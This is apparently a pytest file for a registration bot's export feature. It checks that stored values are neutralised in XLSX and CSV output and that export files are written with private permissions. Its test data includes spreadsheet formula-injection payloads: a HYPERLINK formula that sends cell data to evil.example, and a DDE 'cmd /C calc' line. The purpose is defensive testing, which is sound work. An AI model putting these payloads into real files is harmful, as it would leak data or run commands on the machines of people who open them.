"""Exports are shown, never run, never broken by one bad value, and never readable by anyone else (issue 12).

Old rows may hold anything, so hostile text is put straight into stored registrations (bypassing the
chat's own cleaning): formulas starting with = + - @, tab or CR; ESC, C1, bidi overrides, zero-width
characters, NUL, a 5000-character street. The list is then exported by the real paths (`jaring export
enrolment` in process and as the real command, and the chat's export delivered by `jaring chat --jsonl`)
and read back with openpyxl and csv: no formula cell, no control or invisible character, every row.
The files are 0600 in a 0700 folder, whatever was there before. All on SQLite: PostgreSQL's varchar(200)
would refuse the 5000 characters, and what the writers do does not depend on the store."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import stat
import subprocess
import unicodedata
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update
from sqlalchemy.exc import SQLAlchemyError

from bot.app import Jaring
from bot.channels.terminal import chat_jsonl, files_dir
from bot.commands import export as export_command
from bot.commands.export import run_export_command
from bot.commands.figures import run_stats_command
from bot.desks import export as enrolment_export
from bot.desks.export import COLUMNS, EnrolmentRow, safe_cell, to_csv, to_xlsx
from conversations.flows.jobs import OTHER_JOB
from db.models import AuditEntry, OutboxFile, Registration
from db.repositories import contacts, roles
from handlers.sending import OutgoingFile
from handlers.terminal.files import save_file, write_private_file
from tests.conftest import FixedClock
from tests.test_cli import JARING
from tests.test_enrolment import register_workers, worker_nik

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"KTP")'
LONG = "Jl. " + "Panjang " * 624 + "ujung"  # 5000 characters
# (stored text, what the xlsx shows): every formula start, every kind of character that has no place.
HOSTILE: tuple[tuple[str, str], ...] = (
    (LINK, LINK),
    ("+62 812 3456", "+62 812 3456"),
    ("-1+2", "-1+2"),
    ("@SUM(A1:A9)", "@SUM(A1:A9)"),
    ("\t=1+1", "=1+1"),
    ("\r=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    ("Jl. Batik\x1b[31m 3", "Jl. Batik[31m 3"),
    ("Sri\x85Rahayu", "Sri Rahayu"),  # NEL, a C1 line break: a space
    ("Tu\x9bkang", "Tukang"),  # CSI, another C1
    ("Budi \u202eilabmaK", "Budi ilabmaK"),  # right-to-left override
    ("Ani\u2066ta\u2069", "Anita"),  # isolates
    ("Ani\u200bta \u200d", "Anita"),  # zero-width space and joiner
    ("\u200b=1+1", "=1+1"),  # a formula hidden behind an invisible character
    ("\ufeff@x", "@x"),
    ("Nu\x00l", "Nul"),
    ("Baris\nbaru", "Baris baru"),
    ("#N/A", "#N/A"),  # an error code to openpyxl, text to us
    ("Siti Aminah", "Siti Aminah"),
    (LONG, LONG),
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Independent of the code under test: any control, format (invisible: bidi, zero-width…) or surrogate.
_FORBIDDEN_CATEGORIES = {"Cc", "Cf", "Cs"}


def forbidden(text: str) -> list[str]:
    return [f"U+{ord(c):04X}" for c in text if unicodedata.category(c) in _FORBIDDEN_CATEGORIES]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def names_in(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


async def store_hostile_rows(app: Jaring) -> dict[int, int]:
    """One approved registration per hostile value, stored as old data might hold it: the value in the
    name, the next one in the street, the one after as the job ("Lainnya: …"). Registration id → index."""
    ids = await register_workers(app, len(HOSTILE), statuses=dict.fromkeys(range(len(HOSTILE)), "approved"))
    count = len(HOSTILE)
    async with app.store.transaction() as session:
        for i, registration_id in enumerate(ids):
            await session.execute(
                update(Registration)
                .where(Registration.id == registration_id)
                .values(
                    full_name=HOSTILE[i][0],
                    street=HOSTILE[(i + 1) % count][0],
                    job_type=OTHER_JOB,
                    job_text=HOSTILE[(i + 2) % count][0],
                )
            )
    async with app.store.transaction() as session:  # really stored as given
        names = (await session.execute(select(Registration.full_name).order_by(Registration.id))).scalars().all()
    assert names == [value for value, _ in HOSTILE]
    return {registration_id: i for i, registration_id in enumerate(ids)}


def expected_cells(i: int) -> tuple[str, str, str]:
    """Name, street and job as the xlsx shows them for the row of hostile value `i`."""
    count = len(HOSTILE)
    return HOSTILE[i][1], HOSTILE[(i + 1) % count][1], f"Lainnya: {HOSTILE[(i + 2) % count][1]}"


def csv_form(shown: str) -> str:
    """The csv's form of a text: behind a quote when it would start a formula."""
    return "'" + shown if shown.startswith(FORMULA_STARTS) else shown


_NAME, _STREET, _JOB = 2, 5, 11  # column indexes of the hostile texts
assert [COLUMNS[i][0] for i in (_NAME, _STREET, _JOB)] == ["Nama Lengkap", "Alamat", "Jenis Pekerjaan"]


def check_xlsx(content: bytes, expected: dict[int, int]) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]", archive.read(name)), f"a formula element in {name}"
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == [header for header, _ in COLUMNS]
    seen: dict[int, int] = {}
    for row in rows[1:]:
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula"
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert cell.number_format == "@", f"{cell.coordinate} is not a Text cell"
                assert not forbidden(cell.value), (cell.coordinate, forbidden(cell.value))
        registration_id = row[0].value
        assert isinstance(registration_id, int)
        i = expected[registration_id]
        assert (row[_NAME].value, row[_STREET].value, row[_JOB].value) == expected_cells(i)
        assert row[1].value == worker_nik(i)
        seen[registration_id] = i
    assert seen == expected  # every row, once


def check_csv(content: bytes, expected: dict[int, int]) -> None:
    assert content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert lines[0] == [header for header, _ in COLUMNS]
    seen: dict[int, int] = {}
    for line in lines[1:]:
        assert len(line) == len(COLUMNS)
        for value in line:
            assert not value.startswith(FORMULA_STARTS), value[:40]
            assert not forbidden(value), forbidden(value)
        i = expected[int(line[0])]
        assert (line[_NAME], line[_STREET], line[_JOB]) == tuple(csv_form(text) for text in expected_cells(i))
        assert line[1] == worker_nik(i)  # digits untouched
        assert re.fullmatch(r"62812\d{8}", line[12])
        seen[int(line[0])] = i
    assert seen == expected


# ---- the values -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("stored", "shown"), HOSTILE, ids=[repr(v[:12]) for v, _ in HOSTILE])
def test_one_function_makes_a_text_safe_for_both_files(stored: str, shown: str) -> None:
    assert safe_cell(stored, "xlsx") == shown
    assert safe_cell(stored, "csv") == csv_form(shown)


def test_numbers_and_dates_are_left_as_they_are() -> None:
    assert safe_cell(-5, "csv") == -5
    assert safe_cell(date(1985, 6, 5), "csv") == date(1985, 6, 5)
    assert safe_cell(None, "xlsx") is None
    assert safe_cell("3375010506850001", "csv") == "3375010506850001"


async def test_a_lone_surrogate_cannot_be_stored_and_would_be_removed_if_a_row_held_one(jaring: Jaring) -> None:
    [registration_id] = await register_workers(jaring, 1)
    with pytest.raises((UnicodeEncodeError, SQLAlchemyError)):
        async with jaring.store.transaction() as session:
            await session.execute(
                update(Registration).where(Registration.id == registration_id).values(full_name="Bu\ud800di")
            )
    # The store refuses it (UTF-8 cannot hold it); the writers would still not break on one.
    row = EnrolmentRow(
        1, "3375010506850001", "Bu\ud800di", None, "L", "\udfff=1+1", "001", "002", "Kergon", "", "", "", "", "", 0, ""
    )
    sheet = load_workbook(io.BytesIO(to_xlsx([row]))).worksheets[0]
    assert [sheet["C2"].value, sheet["F2"].value, sheet["F2"].data_type] == ["Budi", "=1+1", "s"]
    line = to_csv([row]).decode("utf-8-sig").splitlines()[1].split(";")
    assert [line[2], line[5]] == ["Budi", "'=1+1"]


# ---- the real paths -------------------------------------------------------------------------------


async def test_the_cli_export_writes_every_hostile_row_as_text_in_both_formats(
    jaring: Jaring, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    expected = await store_hostile_rows(jaring)
    assert await run_export_command(jaring, "approved", "xlsx", tmp_path / "daftar.xlsx", None) == 0
    assert await run_export_command(jaring, "approved", "csv", tmp_path / "daftar.csv", None) == 0
    assert f"{len(HOSTILE)} pendaftaran (disetujui) ditulis ke" in capsys.readouterr().out
    check_xlsx((tmp_path / "daftar.xlsx").read_bytes(), expected)
    check_csv((tmp_path / "daftar.csv").read_bytes(), expected)


async def admin_in_terminal(app: Jaring, clock: FixedClock) -> None:
    async with app.store.transaction() as session:
        admin = await contacts.get_or_create_contact(session, "terminal", "admin", clock())
        await roles.grant_role(session, admin.id, "admin", granted_by="test", now=clock())


async def test_the_chat_export_delivered_in_the_terminal_is_text_private_and_purged(
    jaring: Jaring, clock: FixedClock, loose_umask: None
) -> None:
    expected = await store_hostile_rows(jaring)
    await admin_in_terminal(jaring, clock)
    folder = files_dir(jaring)
    folder.mkdir(parents=True)
    folder.chmod(0o755)  # as an earlier version left it
    typed = ["ekspor", "1", "excel", "ekspor", "1", "csv"]
    stdin = io.StringIO("".join(json.dumps({"from": "admin", "text": text}) + "\n" for text in typed))
    out = io.StringIO()
    assert await chat_jsonl(jaring, stdin, out, io.StringIO()) == 0

    written = [line["file"] for line in map(json.loads, out.getvalue().splitlines()) if "file" in line]
    assert written == ["daftar-bpjstk-disetujui-21-11-2026.xlsx", "daftar-bpjstk-disetujui-21-11-2026.csv"]
    replies = out.getvalue()
    assert "ada gangguan" not in replies.lower()
    check_xlsx((folder / written[0]).read_bytes(), expected)
    check_csv((folder / written[1]).read_bytes(), expected)
    assert mode(folder) == 0o700
    assert [mode(folder / name) for name in written] == [0o600, 0o600]
    async with jaring.store.transaction() as session:  # delivered: the outbox copy is emptied
        stored = (await session.execute(select(OutboxFile))).scalars().all()
    assert [(f.content, f.purged_at is not None) for f in stored] == [(None, True), (None, True)]


@pytest.mark.slow
async def test_the_real_command_exports_hostile_rows_without_a_traceback(jaring: Jaring, tmp_path: Path) -> None:
    """`jaring export enrolment` as the officer types it, on the same data folder (the settings fixture's
    environment): exit 0, every row, and over an existing 0644 file the result is 0600."""
    expected = await store_hostile_rows(jaring)
    target = tmp_path / "daftar.xlsx"
    target.write_bytes(b"old")
    target.chmod(0o644)
    done = await asyncio.to_thread(
        subprocess.run,
        [JARING, "export", "enrolment", "--status", "approved", "--format", "xlsx", "--output", str(target)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    check_xlsx(target.read_bytes(), expected)
    assert mode(target) == 0o600


# ---- failures: one line, no personal data, nothing half done ---------------------------------------


async def exports_recorded(app: Jaring) -> int:
    async with app.store.transaction() as session:
        statement = select(func.count(AuditEntry.id)).where(AuditEntry.action == "enrolment.exported")
        return (await session.execute(statement)).scalar_one()


async def test_a_failing_export_says_so_in_one_line_without_the_data(
    jaring: Jaring, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    await register_workers(jaring, 2, statuses={0: "approved", 1: "approved"})

    def broken(rows: list[EnrolmentRow]) -> bytes:
        raise ValueError(f"{rows[0].nik} {rows[0].full_name} cannot be used in worksheets.")

    monkeypatch.setattr(enrolment_export, "to_xlsx", broken)
    assert await run_export_command(jaring, "approved", "xlsx", tmp_path / "daftar.xlsx", None) == 1
    printed = capsys.readouterr()
    assert printed.out == ""
    [line] = printed.err.splitlines()
    assert line.startswith("jaring: ekspor gagal (ValueError di test_export_safety.py:")
    assert worker_nik(0) not in line
    assert "Pekerja" not in line
    assert not (tmp_path / "daftar.xlsx").exists()
    assert await exports_recorded(jaring) == 0  # rolled back with the rest


async def test_a_failure_after_the_file_was_written_takes_the_file_back(
    jaring: Jaring,
    clock: FixedClock,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Queuing it to an admin fails: the file, not recorded and not sent, is not left on disk either."""
    await register_workers(jaring, 1, statuses={0: "approved"})
    await admin_in_terminal(jaring, clock)

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError(worker_nik(0))

    monkeypatch.setattr(export_command, "export_letter", broken)
    target = tmp_path / "daftar.xlsx"
    assert await run_export_command(jaring, "approved", "xlsx", target, "terminal:admin") == 1
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith("jaring: ekspor gagal (RuntimeError di test_export_safety.py:")
    assert worker_nik(0) not in line
    assert not target.exists()
    assert await exports_recorded(jaring) == 0


async def test_a_file_that_cannot_be_written_is_one_line_and_no_record(
    jaring: Jaring, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await register_workers(jaring, 1, statuses={0: "approved"})
    missing = tmp_path / "tidak-ada" / "daftar.csv"
    assert await run_export_command(jaring, "approved", None, missing, None) == 1
    [line] = capsys.readouterr().err.splitlines()
    assert line == f"jaring: berkas {missing} tidak bisa ditulis (No such file or directory); tidak ada yang diekspor."
    assert await exports_recorded(jaring) == 0


# ---- file modes ------------------------------------------------------------------------------------


async def test_a_cli_export_over_an_existing_readable_file_leaves_it_private(
    jaring: Jaring, tmp_path: Path, loose_umask: None
) -> None:
    await register_workers(jaring, 1, statuses={0: "approved"})
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "daftar.csv"
    target.write_text("lama", encoding="utf-8")
    target.chmod(0o644)
    assert await run_export_command(jaring, "approved", None, target, None) == 0
    assert mode(target) == 0o600
    assert worker_nik(0) in target.read_text(encoding="utf-8-sig")
    assert names_in(target.parent) == ["daftar.csv"]  # no temporary file left behind


async def test_the_stats_chart_is_written_private_too(
    jaring: Jaring, tmp_path: Path, loose_umask: None, capsys: pytest.CaptureFixture[str]
) -> None:
    chart = tmp_path / "grafik.png"
    chart.write_bytes(b"old")
    chart.chmod(0o644)
    assert await run_stats_command(jaring, 2026, chart) == 0
    assert chart.read_bytes().startswith(b"\x89PNG")
    assert mode(chart) == 0o600
    assert "Grafik ditulis ke" in capsys.readouterr().out


def test_terminal_files_are_0600_in_a_0700_folder_whatever_was_there(tmp_path: Path, loose_umask: None) -> None:
    folder = tmp_path / "files"
    folder.mkdir(mode=0o755)
    outside = tmp_path / "outside.xlsx"
    outside.write_bytes(b"not yours")
    (folder / "daftar.xlsx").symlink_to(outside)  # a link planted under the export's name is not followed
    saved = save_file(folder, OutgoingFile("daftar.xlsx", "application/octet-stream", b"NIK"))
    assert saved == folder / "daftar-2.xlsx"
    assert (mode(folder), mode(saved), saved.read_bytes()) == (0o700, 0o600, b"NIK")
    assert outside.read_bytes() == b"not yours"

    fresh = save_file(tmp_path / "new" / "files", OutgoingFile("x.csv", "text/csv", b"1"))
    assert (mode(fresh.parent), mode(fresh)) == (0o700, 0o600)


def test_write_private_file_replaces_in_one_step_and_keeps_no_old_mode(tmp_path: Path, loose_umask: None) -> None:
    target = tmp_path / "daftar.xlsx"
    target.write_bytes(b"old")
    target.chmod(0o666)
    old_reader = target.open("rb")  # opened before: must never see the new content
    try:
        write_private_file(target, b"new")
        assert old_reader.read() == b"old"
    finally:
        old_reader.close()
    assert (target.read_bytes(), mode(target)) == (b"new", 0o600)
    with pytest.raises(FileExistsError):
        write_private_file(target, b"again", overwrite=False)
    assert target.read_bytes() == b"new"
